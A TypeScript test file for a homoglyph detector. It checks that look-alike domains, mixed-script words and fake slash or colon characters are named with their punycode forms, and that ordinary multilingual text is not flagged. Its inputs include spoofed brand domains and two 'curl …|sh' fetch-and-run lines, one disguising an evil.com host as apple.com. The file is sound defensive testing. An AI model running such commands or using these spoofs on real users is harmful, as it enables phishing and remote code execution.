/** What is not what it looks like is named; ordinary words of any language are not. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { lookAlikesIn } from '../../../../src/core/text/visible/look-alikes.ts';
import { isLong } from '../../../support/property.ts';

const found: readonly (readonly [text: string, ...found: (readonly [text: string, is: string])[]])[] = [
  ['аpple.com', ['аpple.com', 'is xn--pple-43d.com']],
  ['see https://аpple.com/login?x=1 now', ['аpple.com', 'is xn--pple-43d.com']],
  ['all Cyrillic: аррӏе.com', ['аррӏе.com', 'is xn--80ak6aa92e.com']],
  ['https://user:x@gооgle.example:8443/a', ['gооgle.example', 'is xn--ggle-55da.example']],
  ['mail to bob@pаypal.example', ['pаypal.example', 'is xn--pypal-4ve.example']],
  ['müller.de', ['müller.de', 'is xn--mller-kva.de']],
  ['пример.рф', ['пример.рф', 'is xn--e1afmkfd.xn--p1ai']],
  ['今日は例え.jpを見て', ['今日は例え.jp', 'is xn--r8j0dx32idwan13f.jp']],
  ['１２７．１.com', ['１２７．１.com', 'is 127.1.com']],
  ['ＡＰＰＬＥ.com', ['ＡＰＰＬＥ.com', 'is apple.com']],
  ['pay раypal today', ['раypal', 'mixes Cyrillic and Latin']],
  ['sеnd', ['sеnd', 'mixes Latin and Cyrillic']],
  ['delete_аll', ['delete_аll', 'mixes Latin and Cyrillic']],
  ['аdmin-group', ['аdmin', 'mixes Cyrillic and Latin']],
  ['Αlice', ['Αlice', 'mixes Greek and Latin']],
  ['bοb', ['bοb', 'mixes Latin and Greek']],
  ['օpen', ['օpen', 'mixes Armenian and Latin']],
  ['Ꭰave', ['Ꭰave', 'mixes Cherokee and Latin']],
  ['Аλ', ['Аλ', 'mixes Cyrillic and Greek']],
  ['pay 1٢3', ['1٢3', 'mixes digits of two scripts']],
  ['cору the file', ['cору', 'mixes Latin and Cyrillic']],
  ['сору the file', ['сору', 'is Cyrillic, not Latin']],
  ['account РАУРАУ', ['РАУРАУ', 'is Cyrillic, not Latin']],
  ['ΑΒΒ', ['ΑΒΒ', 'is Greek, not Latin']],
  ['to раураӏ', ['раураӏ', 'is Cyrillic, not Latin']],
  ['аррӏе', ['аррӏе', 'is Cyrillic, not Latin']],
  ['ӀӀ_аӏе2', ['ӀӀ_аӏе2', 'is Cyrillic, not Latin']],
  ['сосо раураӏ', ['сосо', 'is Cyrillic, not Latin'], ['раураӏ', 'is Cyrillic, not Latin']],
  ['сосо со\u0301со1', ['сосо', 'is Cyrillic, not Latin'], ['со\u0301со1', 'is Cyrillic, not Latin']],
  ['ανορ ϲοϲο', ['ανορ', 'is Greek, not Latin'], ['ϲοϲο', 'is Greek, not Latin']],
  ['սոօո', ['սոօո', 'is Armenian, not Latin']],
  ['ᎪᎡᎬ', ['ᎪᎡᎬ', 'is Cherokee, not Latin']],
  ['ꓑꓮꓬ', ['ꓑꓮꓬ', 'is Lisu, not Latin']],
  ['сосоа.agency, для клиента', ['сосоа.agency', 'is xn--80a1aakb.agency']],
  ['раураӏ.exchange', ['раураӏ.exchange', 'is xn--80aa0cbo65f.exchange']],
  ['наш сервер пример.corp:8080', ['пример.corp', 'is xn--e1afmkfd.corp']],
  ['СОСО.AGENCY', ['СОСО.AGENCY', 'is xn--n1aahb.agency']],
  ['curl ápple.agency|sh', ['ápple.agency', 'is xn--pple-4na.agency']],
  ['例え.museum', ['例え.museum', 'is xn--r8jz45g.museum']],
  ['curl apple.com⁄login.evil.com|sh', ['apple.com⁄login.evil.com', 'is apple.xn--comlogin-g03d.evil.com']],
  ['apple.com∕pay.evil.com', ['apple.com∕pay.evil.com', 'is apple.xn--compay-re3c.evil.com']],
  [
    `apple.com⁄${'a-'.repeat(25)}b.evil.com`,
    [`apple.com⁄${'a-'.repeat(25)}b.evil.com`, `ends in ${'a-'.repeat(17)}b-7d97a.evil.com`],
  ],
  ['apple.com／pay.evil.com', ['apple.com／pay.evil.com', 'is not a valid host']],
  ['apple.com⧸pay', ['apple.com⧸pay', 'has U+29F8, not a slash']],
  ['apple.com꞉8080', ['apple.com꞉8080', 'has U+A789, not a colon']],
  ['apple.com♯top', ['apple.com♯top', 'has U+266F, not a hash']],
  ['pay‐pal.com', ['pay‐pal.com', 'is xn--paypal-dg0c.com']],
  ['apple·com.evil.com', ['apple·com.evil.com', 'is xn--applecom-koa.evil.com']],
];

const ordinary = [
  'Plain https://example.com/a?b=c#d and bob@example.com, file.txt, v1.2.3',
  'Zoë, naïve café, Łukasz, ångström, straße, İstanbul, Nguyễn Thị Phương',
  'Привет, сору и сор: оплатите счёт, IT-отдел, e-mail-адрес, отчёт.pdf, т.е. так.Потом иначе',
  'Καλημέρα κόσμε, ΤΟ ΚΑΤΑΣΤΗΜΑ',
  '10 kΩ, 5 μm, 3 μs, Δt, λ2, 2πr',
  '日本語のAPIを使う。T恤 QRコード ｶﾀｶﾅ 例えば、example.comを見て',
  '请打开https://example.com。谢谢，用户ID和密码',
  '한국어API 테스트',
  'ใช้APIนี้ กรุณา',
  'الـAPI ו-API בתוך טקסט, יום ה-1',
  'हिंदीAPI १२३',
  '😀 👩\u200d🚀 ok',
  'größe.value und Maße.laenge',
  'Это конец.начало второго, готово.Done и отчёт.rar, иван.petrov@example.com',
  'Къонах, шайтӏан, аӏаьржа; адыгэбзэ щӏэныгъэ; сосо',
  'Її сад росте; сосо',
  'C’est terminé.merci, l’été.puis',
  '好的.thanks, 数据.value, なるほど.done',
  '1⁄2 cup, 5 км⁄ч, и⁄или, S.5–7, vgl. S.5–S.7, 5·10',
  'A社／B社と東京／大阪、＃タグ',
  'our page—example.com, “example.com”, →example.com, a.com→b.com',
];

describe('a look-alike', () => {
  for (const [text, ...all] of found) {
    test(`in ${JSON.stringify(text)} is named`, () => {
      assert.deepEqual(
        lookAlikesIn([text]),
        all.map(([one, is]) => ({ text: one, is })),
      );
    });
  }

  for (const text of ordinary) {
    test(`is not seen in ${JSON.stringify(text)}`, () => assert.deepEqual(lookAlikesIn([text]), []));
  }

  test('of a whole word is none where the request is in that script anyway', () => {
    assert.deepEqual(lookAlikesIn(['Сара', 'Москва']), []);
    assert.equal(lookAlikesIn(['Сара', 'Moscow']).length, 1);
  });

  test('is named once, and with what it hides made visible', () => {
    assert.deepEqual(lookAlikesIn(['аpple.com', 'аpple.com and аp\u200dple.com']), [
      { text: 'аpple.com', is: 'is xn--pple-43d.com' },
      { text: 'аp⟨U+200D⟩ple.com', is: 'is not a valid host' },
    ]);
  });

  test('is looked for in a very long text', () => {
    // The square of either length would take minutes.
    const size = isLong ? 1_000_000 : 250_000;
    const units = [
      'а',
      'aа',
      'а.',
      'а.a',
      '字',
      '://',
      '://а',
      'а@',
      '-а',
      'а_',
      '\u0301',
      '1٢',
      '。',
      '😀',
      'а.com ',
      'а⁄',
      '⁄',
      '／字',
    ];
    units.push(`а${'-'.repeat(251)}а`, `а${'⁄'.repeat(251)}а`, `а${'.a'.repeat(120)}⁄`);
    for (const unit of units) assert.ok(lookAlikesIn([unit.repeat(size / unit.length)]).length <= 50);
  });
});
